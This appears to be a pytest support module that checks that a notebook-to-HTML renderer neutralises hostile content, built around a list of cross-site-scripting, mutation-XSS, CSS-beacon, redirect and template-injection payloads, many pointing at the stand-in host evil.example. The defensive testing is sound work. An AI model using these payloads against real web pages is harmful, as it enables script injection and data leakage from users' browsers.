"""Text that tries to run, load, or pretend to be ours, and the checks that a page survived it.

Each payload sets window.__pwned, or fetches from evil.example, wherever it gets through.
"""

import base64
import re
import shutil
from contextlib import contextmanager

import pytest
from bs4 import BeautifulSoup
from nbformat import v4

from llmnb.record import ANSWER_MIME, METRIC_MIME

PWN = "window.__pwned=1"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"><script>{PWN}</script>'
    f'<image href="https://evil.example/svg.png"/><foreignObject><img xmlns='
    f'"http://www.w3.org/1999/xhtml" src="x" onerror="{PWN}"/></foreignObject>'
    f'<a href="javascript:{PWN}"><text y="9">click</text></a>'
    f'<animate attributeName="x" onbegin="{PWN}" dur="1s"/></svg>'
)
_SVG64 = base64.b64encode(SVG.encode()).decode()
_PAGE64 = base64.b64encode(f"<script>{PWN}</script>".encode()).decode()

PAYLOADS = {
    "script": f"<script>{PWN}</script>",
    "script in odd case": f"<ScRiPt/x>{PWN}</sCrIpT >",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script split by its removal": f"<scr<script></script>ipt>{PWN}</scr<script></script>ipt>",
    "script after a style": f"</style><script>{PWN}</script>",
    "script after a comment": f"<!--><script>{PWN}</script>-->",
    "image error": f'<img src=x onerror="{PWN}">',
    "image from elsewhere": '<img src="https://evil.example/pixel.png" srcset="//evil.example/2x">',
    "markdown image from elsewhere": "![pixel](https://evil.example/pixel.png)",
    "svg in a data image": f'<img src="data:image/svg+xml;base64,{_SVG64}">',
    "svg inline": SVG,
    "link": f'<a href="javascript:{PWN}">a</a>',
    "link with an entity": f'<a href="&#106;avascript&colon;{PWN}">b</a>',
    "link with white space": f'<a href=" java\tscri\npt:{PWN}">c</a>',
    "link to a page of data": f'<a href="data:text/html;base64,{_PAGE64}">e</a>',
    "link to a blob or a file": '<a href="blob:x">h</a><a href="file:///etc/passwd">i</a>',
    "link without a scheme": '<a href="//evil.example/">j</a><a href="\\\\evil.example\\x">k</a>',
    "markdown link": f"[l](javascript:{PWN})",
    "markdown link with an entity": f"[m](java&#115;cript:{PWN}) [n](<java\\\nscript:{PWN}>)",
    "markdown reference": f"[o][evil]\n\n[evil]: javascript:{PWN}",
    "link with ping": '<a href="https://ok.example" ping="//evil.example" target="_top">p</a>',
    "frame": f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    "object and embed": '<object data="//evil.example/o"></object><embed src="//evil.example">',
    "media": f'<video poster="//evil.example/v"><source onerror="{PWN}" src=x></video>',
    "style import": "<style>@import url(https://evil.example/s.css); *{display:none}</style>",
    "style attribute": '<p style="background:url(https://evil.example/b.png);position:fixed">q</p>',
    "style of a formula": '<math><mi style="color:url(//evil.example/s);width:calc(9em)">x</mi>',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/l.css">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/m">',
    "base": '<base href="https://evil.example/">',
    "form": f'<form action="//evil.example/f"><button formaction="javascript:{PWN}">s</button>',
    "input": f'<input autofocus onfocus="{PWN}" id="all-code"><select autofocus onfocus="{PWN}">',
    "handlers": f'<details open ontoggle="{PWN}"><summary onclick="{PWN}">t</summary></details>',
    "ids of the page": '<a id="cell-0"></a><div id="all-code">v</div>',
    "classes of the page": '<div class="alarm badge status-ok">v</div>',
    "closing our tags": "</div></section></main></div></body></html><h1>w</h1>",
    "math link": f'<math href="javascript:{PWN}"><mi xlink:href="javascript:{PWN}">x</mi></math>',
    "math annotation": f'<math><annotation-xml encoding="text/html"><img src=x onerror={PWN}>'
    "</annotation-xml></math>",
    "mutation: mglyph": "<math><mtext><table><mglyph><style><!--</style><img title="
    f'"--&gt;&lt;img src=1 onerror={PWN}&gt;">',
    "mutation: svg style": f'<svg></p><style><a id="</style><img src=1 onerror={PWN}>">',
    "mutation: noscript": f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    "mutation: template": f"<template><script>{PWN}</script></template><xmp><script>{PWN}</script>",
    "formula with markup": rf"$\text{{<script>{PWN}</script><img src=x onerror={PWN}>}}$",
    "formula with a link": rf"$\href{{javascript:{PWN}}}{{x}}$ and $$\url{{javascript:{PWN}}}$$",
    "formula with a style": r"$\style{background:url(//evil.example)}{x}$ $\color{url(//x)}{x}$",
    "formula unbalanced": rf"$\frac{{<img src=x onerror={PWN}>$",
    "code fence": f"```html\n<script>{PWN}</script>\n```",
    "code fence language": f"```<img src=x onerror={PWN}>\nx\n```",
    "mermaid": f"```mermaid\ngraph TD; A-->B; click A href \"javascript:{PWN}\"\n```",
    "quotes": f"\"'`><img src=x onerror={PWN}>",
    "template": "{{ 7919 * 7907 }}{% include '/etc/passwd' %}{{ self.__init__ }}",
    "lone surrogate": f"\ud800<script>{PWN}</script>",
    "direction": "\u202e<img src=x>\u202c",
}  # fmt: skip

# mistune, pygments or the converter of formulas makes these harmless before they are cleaned; a
# template would have to be rendered.
HARMLESS_BEFORE_CLEANING = {
    *(name for name in PAYLOADS if name.startswith(("formula", "code fence"))),
    *("markdown link", "markdown link with an entity", "markdown reference"),
    *("markdown image from elsewhere", "mermaid", "quotes", "template"),
}
TEMPLATE_RESULT = str(7919 * 7907)
OWN_IDS = {"section": r"cell-\d+", "article": r"card-\d+|unreadable", "input": "all-code"}
_METRIC = ("name", "label", "value", "better", "unit", "low", "high")
_NOT_OURS = re.split(
    r"\s+",
    "script iframe frame object embed form button select textarea base link noscript template "
    "audio video source maction annotation-xml mglyph foreignobject animate image",
)


def display_output(metadata: dict | None = None, **data):
    """An output with these representations: text_html means text/html."""
    data = {mime.replace("_", "/", 1): content for mime, content in data.items()}
    return v4.new_output("display_data", data=data, metadata=metadata or {})


def outputs(payload: str) -> list:
    """A payload as every kind of output."""
    baseline = {"label": payload, "value": payload}
    metric = dict.fromkeys(_METRIC, payload) | {"baseline": baseline}
    answer = {"text": payload, "figure": payload}
    red = f"\x1b[1;31m{payload}\x1b[0m\x1b]8;;{payload}\x07"
    return [
        v4.new_output("stream", name="stdout", text=f"{payload}\n"),
        v4.new_output("stream", name="stderr", text=red),
        display_output(text_html=payload, text_plain=payload),
        display_output(text_html=f"<table><tr><td>{payload}</table>"),
        display_output(text_markdown=payload),
        display_output(text_latex=f"${payload}$"),
        display_output(text_plain=red),
        display_output(image_png=payload, text_plain=payload),
        display_output({"image/png": {"alt": payload, "width": payload}}, image_png="iVBORw0KGgo="),
        display_output(**{METRIC_MIME: metric, "text/plain": payload}),
        display_output(**{ANSWER_MIME: answer, "text/markdown": payload, "text/plain": payload}),
        v4.new_output("error", ename=payload, evalue=payload, traceback=[red]),
        v4.new_output("error", ename=payload, evalue=payload, traceback=[]),
    ]


def notebook():
    """Every payload in every place that a notebook has for text."""
    cells = [v4.new_markdown_cell(f"# Title {''.join(list(PAYLOADS.values())[:8])}")]
    for name, payload in PAYLOADS.items():
        line = payload.replace("\n", " ")
        cells.append(v4.new_markdown_cell(f"## {name} {line}\n\n{payload}\n\n- {line}\n\n> {line}"))
        cell = v4.new_code_cell(f"# {payload}", outputs=outputs(payload))
        cell.metadata.update({"tags": [payload, "parameters"], payload: payload})
        cell["id"] = payload
        cells.append(cell)
    svg = display_output(**{"image/svg+xml": SVG})
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "W(1)"}
    code = display_output(application_javascript=PWN, text_plain="<Javascript object>")
    cells.append(
        v4.new_code_cell("svg, widget, javascript", outputs=[svg, display_output(**widget), code])
    )
    cells.append(v4.new_raw_cell(PAYLOADS["script"], metadata={"raw_mimetype": "text/html"}))
    alt = "".join(PAYLOADS.values()).replace("\ud800", "")
    figure = display_output({"image/png": {"alt": alt}}, image_png="iVBORw0KGgo=")
    answer = {"text": "\n\n".join(PAYLOADS.values()), "figure": alt}
    cells.append(
        v4.new_code_cell("answer", outputs=[figure, display_output(**{ANSWER_MIME: answer})])
    )
    book = v4.new_notebook(metadata={"title": PAYLOADS["script"]})
    book.cells = cells  # not through the constructor, which refuses such ids
    return book


def run(payload: str | None = None) -> dict:
    """A record whose every string is hostile."""
    texts = [payload] if payload else list(PAYLOADS.values())
    text = texts[0]
    metric = dict.fromkeys(_METRIC, text) | {"baseline": text}
    number = {"value": 0.5, "better": "higher", "unit": text, "low": 0.4, "high": 0.6}
    number |= {"label": text, "baseline": {"label": text, "value": text}}
    names = ("notebook", "status", "attempt", "pid", "started", "seconds", "peak_memory_mb")
    return dict.fromkeys(names, text) | {
        "schema": 1,
        "parameters": {p: p for p in texts} | {"nested": [{p: p} for p in texts]},
        "metrics": dict.fromkeys(texts, metric) | {f"number {p}": number for p in texts},
        "hardware": dict.fromkeys(texts, text),
        "versions": dict.fromkeys(texts, text),
        "source": {"git": text, "notebook_sha256": text},
        "answer": {"text": text, "figure": text},
        "error": {"cell": text, "type": text, "message": text},
    }


def assert_inert(page: str, charts: bool = False) -> None:
    """Nothing in the page runs, loads, or leads to code. charts: with drawings of our own."""
    assert "<script" not in page.lower()
    soup = BeautifulSoup(page, "html.parser")
    assert not soup.find_all(_NOT_OURS)
    assert charts or not soup.find("svg")
    assert (len(soup.find_all("style")), len(soup.find_all("meta"))) == (1, 5)
    assert soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"] == (
        "default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; "
        "form-action 'none'"
    )
    assert [field.get("id") for field in soup.find_all("input")] in ([], ["all-code"])
    (main,) = soup.find_all("main")
    assert len(main.find_all_next(True)) == len(main.find_all(True)), "a text closed our tags"
    assert not soup.select(":is(.prose, .output, .answer) :is(.alarm, .badge)"), "looks like ours"
    assert not soup.select(':is(.prose, .output) img[src^="data:image/svg"]')
    assert TEMPLATE_RESULT not in page, "a text was taken for a template"
    for element in soup.find_all(True):
        if "id" in element.attrs and not element["id"].startswith("nb-"):
            assert re.fullmatch(OWN_IDS.get(element.name, ""), element["id"]), element["id"]
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            assert not name.startswith("on"), (element.name, name)
            assert name not in ("srcdoc", "srcset", "action", "formaction", "ping", "background")
            assert not (name == "src" and not value.startswith("data:image/")), value
            assert not (name == "style" and "(" in value), value
            if name.endswith("href"):
                assert is_harmless(value), value
                assert element.get("rel") or not value.startswith("http")


def is_caught(page: str) -> bool:
    try:
        assert_inert(page)
    except AssertionError:
        return True
    return False


class Careless:
    """A cleaner that cleans nothing."""

    def clean(self, fragment):
        return fragment


def is_harmless(address: str) -> bool:
    """http(s), mail, a place in the page, or a relative path."""
    compact = re.sub(r"[\x00-\x20]", "", address).lower()
    scheme = re.match(r"[a-z][a-z0-9+.-]*:", compact)
    return not compact.startswith(("//", "\\", "/\\")) and (
        scheme is None or scheme[0] in ("http:", "https:", "mailto:")
    )


@contextmanager
def chromium():
    """A real headless Chromium; skips the test where there is none."""
    path = shutil.which("chromium") or shutil.which("google-chrome")
    if path is None:
        pytest.skip("no chromium or google-chrome on the PATH")
    api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    with api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
        yield browser
        browser.close()


def watch(browser, path) -> dict:
    """Open a page, touch everything in it, and tell what happened."""
    seen = {"requests": [], "console": [], "dialogs": []}
    page = browser.new_page()
    page.on("request", lambda request: seen["requests"].append(request.url))
    page.on("console", lambda message: seen["console"].append(message.text))
    page.on("pageerror", lambda error: seen["console"].append(str(error)))
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.goto(path.as_uri())
    page.evaluate("""() => {
        for (const fold of document.querySelectorAll('details')) fold.open = true;
        for (const element of document.querySelectorAll('body *')) {
            for (const kind of ['mouseover', 'mouseenter', 'focus', 'toggle', 'error', 'load'])
                element.dispatchEvent(new Event(kind, {bubbles: true}));
            const link = element.closest('a, area');
            const href = link && (link.getAttribute('href') ?? link.getAttribute('xlink:href'));
            if (!link || href && !/^(https?:|mailto:|runs[/])/.test(href) && /[:#]/.test(href))
                element.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
        }
    }""")
    page.wait_for_timeout(300)
    seen["pwned"] = page.evaluate("() => window.__pwned ?? null")
    seen["dom"] = page.evaluate("""() => [...document.querySelectorAll('*')].flatMap(element => [
        ...(['script', 'iframe', 'object', 'embed', 'base', 'form'].includes(element.localName)
            ? [element.localName] : []),
        ...[...element.attributes].filter(a => /^on/i.test(a.name)).map(a => a.name)])""")
    seen["links"] = page.evaluate(
        "() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes])"
        ".filter(a => /href$/.test(a.name)).map(a => a.value)"
    )
    page.close()
    return seen


def assert_nothing_happened(seen: dict, path) -> None:
    assert seen["requests"][:1] == [path.as_uri()]
    data = [url for url in seen["requests"][1:] if not url.startswith("data:image/")]
    assert data == []
    assert (seen["console"], seen["dialogs"], seen["pwned"], seen["dom"]) == ([], [], None, [])
    assert seen["links"] and all(map(is_harmless, seen["links"]))
